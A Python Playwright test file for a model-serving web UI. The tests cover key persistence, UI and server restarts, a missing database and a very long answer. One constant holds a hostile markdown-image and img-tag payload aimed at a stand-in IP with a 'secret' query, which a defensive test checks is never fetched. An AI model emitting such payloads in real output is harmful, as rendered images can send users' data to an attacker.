"""What a visitor's open page goes through: a reload, a web UI that dies, a server that goes and comes back, a database
that is gone, an answer of a megabyte.
"""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import psutil
import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.browser import IDLE, open_page, web_ui
from tests.e2e.server import free_port
from tests.ui.page import opened, words
from tests.ui.ui_server import ECHO, LONG, UiServer, ui_server

HOSTILE = "![x](http://192.0.2.1/?secret) :red[so] $5 and $6 <img src=http://192.0.2.1/>"
NARROW = 400


def _key_field(page: Page) -> Locator:
    return page.get_by_role("textbox", name="API key")


def _send(page: Page, question: str) -> None:
    field = page.get_by_placeholder("Ask, for example")
    field.fill(question)
    field.press("Enter")


def _kill_ui() -> None:
    ui = next(child for child in psutil.Process().children() if "ui" in child.cmdline())
    ui.kill()
    ui.wait(60)


def test_a_key_outlives_a_reload_and_is_forgotten_when_it_is_removed(
    blank_page: Page, empty_server: UiServer, tmp_path: Path
) -> None:
    key = empty_server.http.post("/keys", json={"name": "me", "scopes": ["admin"]}).json()["key"]
    with web_ui(empty_server.url, tmp_path) as url:
        open_page(blank_page, url, "jobs")
        alert = blank_page.get_by_test_id("stAlert")
        expect(alert).to_have_count(1)
        expect(alert).to_contain_text("Enter a key in the sidebar")
        _key_field(blank_page).fill(key)
        _key_field(blank_page).press("Enter")
        expect(blank_page.get_by_text("No such job.")).to_be_visible()
        blank_page.reload()
        expect(blank_page.get_by_text("No such job.")).to_be_visible()
        _key_field(blank_page).fill("")
        _key_field(blank_page).press("Enter")
        expect(alert).to_contain_text("Enter a key in the sidebar")
        blank_page.reload()
        expect(alert).to_contain_text("Enter a key in the sidebar")
        expect(_key_field(blank_page)).to_have_value("")


def test_a_web_ui_that_dies_says_what_to_start_and_its_pages_go_on(
    blank_page: Page, empty_server: UiServer, tmp_path: Path
) -> None:
    note = blank_page.get_by_role("alert").filter(has_text="The web UI does not answer")
    with web_ui(empty_server.url, tmp_path) as url:
        open_page(blank_page, url, "solve")
        _kill_ui()
        expect(note).to_contain_text("stepserve up")
        expect(blank_page.get_by_text("streamlit run")).not_to_be_visible()
        with web_ui(empty_server.url, tmp_path, urlsplit(url).port):
            expect(note).to_have_count(0)
            blank_page.get_by_role("link", name="Jobs").click()
            expect(blank_page.get_by_role("heading", name="Jobs", level=1)).to_be_visible()


@pytest.mark.parametrize("name", ["playground", "solve", "keys"])
def test_a_page_goes_on_by_itself_when_its_server_is_back(blank_page: Page, tmp_path: Path, name: str) -> None:
    """These three are not drawn anew every few seconds."""
    port = free_port()
    away = blank_page.get_by_text("this page goes on by itself")
    with web_ui(f"http://127.0.0.1:{port}", tmp_path) as url:
        open_page(blank_page, url, name)
        expect(away).to_have_count(1)
        with ui_server(tmp_path / "base", port=port):
            expect(away).to_have_count(0)


def test_a_database_that_is_gone_is_told_as_that(empty_server: UiServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_URL", empty_server.url)
    database = empty_server.settings.layout.database
    kept = database.rename(database.with_suffix(".kept"))
    try:
        for name in ("jobs", "models", "evals"):
            page = opened(name)
            assert not page.exception
            assert "the database cannot be used now" in page.warning[0].value, words(page)
            assert len(page.warning) + len(page.error) == 1, words(page)
    finally:
        kept.rename(database)


@pytest.fixture
def answering(blank_page: Page, filled_server: UiServer, tmp_path: Path) -> Iterator[Callable[[str], Locator]]:
    """Asks in the Playground; the answer's place."""
    with web_ui(filled_server.url, tmp_path) as url:
        open_page(blank_page, url, "playground")

        def ask(question: str) -> Locator:
            before = blank_page.get_by_test_id("stChatMessage").count()
            _send(blank_page, question)
            return blank_page.get_by_test_id("stChatMessage").nth(before + 1)

        yield ask


def test_a_megabyte_is_cut_can_be_saved_and_leaves_the_page_usable(
    blank_page: Page, answering: Callable[[str], Locator], tmp_path: Path
) -> None:
    answer = answering(LONG.format(count=1000, length=1000))
    expect(answer).to_contain_text("900,000 more characters are not shown.")
    expect(answer).to_contain_text("tokens/s")
    with blank_page.expect_download() as saved:
        answer.get_by_role("button", name="Download the whole answer").click()
    saved.value.save_as(tmp_path / "answer.txt")
    assert (tmp_path / "answer.txt").stat().st_size == 1_000_000
    blank_page.get_by_role("button", name="Begin anew").click()
    expect(blank_page.get_by_test_id("stChatMessage")).to_have_count(0)
    expect(answering("What is 17+25?").get_by_text("42", exact=True)).to_be_visible()


@pytest.mark.parametrize("width", [1280, NARROW])
def test_a_hostile_answer_fetches_nothing_and_widens_nothing(
    blank_page: Page, answering: Callable[[str], Locator], width: int
) -> None:
    """`visitor` fails when another host is asked."""
    blank_page.set_viewport_size({"width": width, "height": 900})
    expect(answering(f"{ECHO}{HOSTILE}").get_by_text(HOSTILE, exact=True)).to_be_visible()
    blank_page.get_by_text("Draw as Markdown").click()
    blank_page.locator(IDLE).wait_for()
    expect(blank_page.get_by_test_id("stChatMessage").nth(1)).to_contain_text(re.compile(r"!\[x\].*:red\[so\]"))
    assert blank_page.locator("img[src*='192.0.2.1']").count() == 0
    assert blank_page.evaluate("document.scrollingElement.scrollWidth") <= width
